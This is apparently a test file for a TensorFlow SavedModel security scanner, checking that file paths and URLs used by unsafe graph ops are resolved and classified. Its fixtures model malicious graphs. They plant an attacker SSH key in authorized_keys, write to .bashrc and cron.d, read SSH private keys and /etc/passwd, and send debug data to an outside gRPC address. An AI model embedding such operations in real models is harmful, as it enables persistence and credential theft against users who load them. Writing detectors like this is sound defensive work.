// Resolving the path an unsafe op uses beyond one hop: joins, formats, Add on strings, function
// args bound to caller constants, MatchingFiles results, attrs.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { attrS, buildAndScan, call, constNode, fn, node, scalar, signature, varHandle } from './models.ts';
import { attrList, graph, metaGraph } from '../../../main/writer/graph.ts';
import { writeSavedModelDir } from '../../../main/writer/savedmodel.ts';
import { openModel } from '../../../main/formats/index.ts';
import { scanModel } from '../../../main/analysis/scan.ts';
import { tempDir } from '../../helpers/corpus.ts';

const enc = new TextEncoder();

async function scanMain(main: ReturnType<typeof fn>, extra: ReturnType<typeof fn>[] = []) {
  return buildAndScan({
    nodes: [node('x', 'Placeholder'), call('serve', 'main', ['x'])],
    library: [main, ...extra],
    signatures: [signature('serving_default', { y: 'serve:0' })],
    own: [scalar('v', 'DT_FLOAT', 0)],
  });
}

test('StringJoin, StringFormat and Add on strings fold to the path; a helper function arg bound to a caller constant resolves', async () => {
  const helper = fn('write_to', [['dir', 'DT_STRING'], ['name', 'DT_STRING']], [], [
    node('join', 'StringJoin', ['dir', 'name'], { separator: { type: 's', s: enc.encode('/') } }),
    constNode('c', 'DT_STRING', [], ['data']),
    node('WriteFile', 'WriteFile', ['join:output:0', 'c:output:0']),
  ], {});
  const main = fn('main', [['x', 'DT_FLOAT']], [['y', 'DT_FLOAT']], [
    constNode('home', 'DT_STRING', [], ['/home/victim']),
    constNode('rc', 'DT_STRING', [], ['.bash']),
    constNode('suffix', 'DT_STRING', [], ['rc']),
    node('name', 'AddV2', ['rc:output:0', 'suffix:output:0'], { T: { type: 'type', dtype: 'DT_STRING' } }),
    node('fmt', 'StringFormat', ['home:output:0'], { template: { type: 's', s: enc.encode('{}/.ssh/authorized_keys') }, placeholder: { type: 's', s: enc.encode('{}') } }),
    constNode('k', 'DT_STRING', [], ['ssh-ed25519 AAAA attacker']),
    node('WriteKeys', 'WriteFile', ['fmt:output:0', 'k:output:0']),
    call('helper', 'write_to', ['home:output:0', 'name:z:0']),
    node('Identity', 'Identity', ['x', '^helper', '^WriteKeys']),
  ], { y: 'Identity:output:0' });
  const report = await scanMain(main, [helper]);
  const keys = report.findings.find((f) => f.node === 'WriteKeys')!;
  // tf.strings.format quotes string tensors, exactly as TensorFlow prints them.
  assert.equal(keys.arguments[0].value, '"/home/victim"/.ssh/authorized_keys');
  assert.equal(keys.arguments[0].classification, 'sensitive-path');
  const rc = report.findings.find((f) => f.function === 'write_to')!;
  assert.equal(rc.arguments[0].value, '/home/victim/.bashrc');
  assert.equal(rc.arguments[0].classification, 'sensitive-path');
});

test('a file name taken from MatchingFiles is classified by its glob pattern', async () => {
  const main = fn('main', [['x', 'DT_FLOAT']], [['y', 'DT_FLOAT']], [
    constNode('pattern', 'DT_STRING', [], ['/home/*/.ssh/id_*']),
    node('files', 'MatchingFiles', ['pattern:output:0']),
    constNode('zero', 'DT_INT32', [], [0]),
    node('first', 'GatherV2', ['files:filenames:0', 'zero:output:0', 'zero:output:0']),
    node('ReadFile', 'ReadFile', ['first:output:0']),
    node('Identity', 'Identity', ['x', '^ReadFile']),
  ], { y: 'Identity:output:0' });
  const report = await scanMain(main);
  const f = report.findings.find((x) => x.op === 'ReadFile')!;
  assert.equal(f.arguments[0].value, null);
  assert.equal(f.arguments[0].classification, 'sensitive-path');
  assert.match(f.arguments[0].note ?? '', /matching "\/home\/\*\/\.ssh\/id_\*"/);
  assert.match(f.arguments[0].expression, /MatchingFiles/);
});

test('URL attrs are resolved and classified (DebugIdentityV2 debug_urls)', async () => {
  const main = fn('main', [['x', 'DT_FLOAT']], [['y', 'DT_FLOAT']], [
    node('dbg', 'DebugIdentityV2', ['x'], { debug_urls: attrList({ s: [enc.encode('grpc://203.0.113.9:6064')] }), tfdbg_context_id: attrS('c') }),
  ], { y: 'dbg:output:0' });
  const report = await scanMain(main);
  const f = report.findings.find((x) => x.op === 'DebugIdentityV2');
  assert.ok(f, JSON.stringify(report.findings.map((x) => x.op)));
  assert.ok(f.arguments.some((a) => a.value === 'grpc://203.0.113.9:6064' && a.classification === 'grpc'), JSON.stringify(f.arguments));
});

test('a path read from a string variable is resolved per checkpoint and classified', async () => {
  const main = fn('main', [['x', 'DT_FLOAT'], ['r', 'DT_RESOURCE']], [['y', 'DT_FLOAT']], [
    node('path', 'ReadVariableOp', ['r']),
    constNode('c', 'DT_STRING', [], ['data']),
    node('WriteFile', 'WriteFile', ['path:value:0', 'c:output:0']),
    node('Identity', 'Identity', ['x', '^WriteFile']),
  ], { y: 'Identity:output:0' });
  const report = await buildAndScan({
    nodes: [node('x', 'Placeholder'), varHandle('out_path', 'DT_STRING'), call('serve', 'main', ['x', 'out_path'])],
    library: [main],
    signatures: [signature('serving_default', { y: 'serve:0' })],
    own: [scalar('out_path', 'DT_STRING', '/tmp/log.txt')],
    alt: [scalar('out_path', 'DT_STRING', '/etc/cron.d/job')],
  });
  const f = report.findings.find((x) => x.op === 'WriteFile')!;
  assert.equal(f.arguments[0].value, '/etc/cron.d/job');
  assert.equal(f.arguments[0].classification, 'sensitive-path');
  assert.match(f.arguments[0].note ?? '', /own → "\/tmp\/log\.txt"; alt → "\/etc\/cron\.d\/job"/);
  assert.match(f.arguments[0].expression, /ReadVariableOp\(out_path\)/);
});

test('TF1 vocabulary tables read the model\'s own assets (asset_filepaths collection): info, not a finding', async () => {
  const dir = `${tempDir()}/model`;
  const g = graph([
    node('table', 'HashTableV2'),
    constNode('asset_filepath', 'DT_STRING', [], ['vocab.txt']),
    node('table_init', 'InitializeTableFromTextFileV2', ['table', 'asset_filepath'], { key_index: { type: 'i', i: -2 }, value_index: { type: 'i', i: -1 } }),
    node('init_all_tables', 'NoOp', ['^table_init']),
    node('x', 'Placeholder'),
    constNode('dflt', 'DT_INT64', [], [-1]),
    node('lookup', 'LookupTableFindV2', ['table', 'x', 'dflt']),
  ]);
  await writeSavedModelDir(dir, {
    metaGraphs: [metaGraph(g, { signatures: [signature('serving_default', { y: 'lookup:0' }, { x: 'x:0' })], collections: { asset_filepaths: { kind: 'node_list', values: ['asset_filepath:0'] }, legacy_init_op: { kind: 'node_list', values: ['init_all_tables'] } } })],
    variables: [scalar('unused', 'DT_FLOAT', 0)],
    files: { 'assets/vocab.txt': 'a\nb\n' },
  });
  const model = await openModel(dir);
  const report = await scanModel(model, { checkpoints: [], toolVersion: 'test' });
  const f = report.findings.find((x) => x.op === 'InitializeTableFromTextFileV2')!;
  assert.equal(f.reachability, 'load');
  assert.equal(f.arguments[0].classification, 'model-own-files');
  assert.equal(f.severity, 'info');
});

test('a dataset function reads the file named by its element: TextLineDataset in flat_map over TensorSliceDataset(variable)', async () => {
  // The shape tf.data.TextLineDataset(variable) takes in TF2: the file names are sliced into a
  // dataset and each element reaches TextLineDataset as the flat_map function's first arg.
  const readOneFile = fn('read_one_file', [['args_0', 'DT_STRING']], [['out', 'DT_VARIANT']], [
    constNode('compression', 'DT_STRING', [], ['']),
    constNode('buffer', 'DT_INT64', [], [262144]),
    node('lines', 'TextLineDataset', ['args_0', 'compression:output:0', 'buffer:output:0']),
  ], { out: 'lines:handle:0' });
  const list = attrList({ type: ['DT_STRING'] });
  const shapes = attrList({ shape: [{ unknownRank: false, dims: [] }] });
  const main = fn('main', [['x', 'DT_FLOAT'], ['r', 'DT_RESOURCE']], [['y', 'DT_FLOAT']], [
    node('path', 'ReadVariableOp', ['r']),
    constNode('flat', 'DT_INT32', [1], [-1]),
    node('names', 'Reshape', ['path:value:0', 'flat:output:0']),
    node('slices', 'TensorSliceDataset', ['names:output:0'], { Toutput_types: list, output_shapes: shapes }),
    node('files', 'FlatMapDataset', ['slices:handle:0'], { f: { type: 'func', func: { name: 'read_one_file', attr: {} } }, Targuments: attrList({ type: [] }), output_types: list, output_shapes: shapes }),
    node('Identity', 'Identity', ['x', '^files']),
  ], { y: 'Identity:output:0' });
  const report = await buildAndScan({
    nodes: [node('x', 'Placeholder'), varHandle('data_path', 'DT_STRING'), call('serve', 'main', ['x', 'data_path'])],
    library: [main, readOneFile],
    signatures: [signature('serving_default', { y: 'serve:0' })],
    own: [scalar('data_path', 'DT_STRING', '/etc/passwd')],
  });
  const f = report.findings.find((x) => x.op === 'TextLineDataset');
  assert.ok(f, 'TextLineDataset is a file read');
  assert.equal(f.arguments[0]?.value, '/etc/passwd');
  assert.equal(f.arguments[0]?.classification, 'sensitive-path');
  assert.match(f.arguments[0]?.expression ?? '', /ReadVariableOp\(data_path\)/);
});
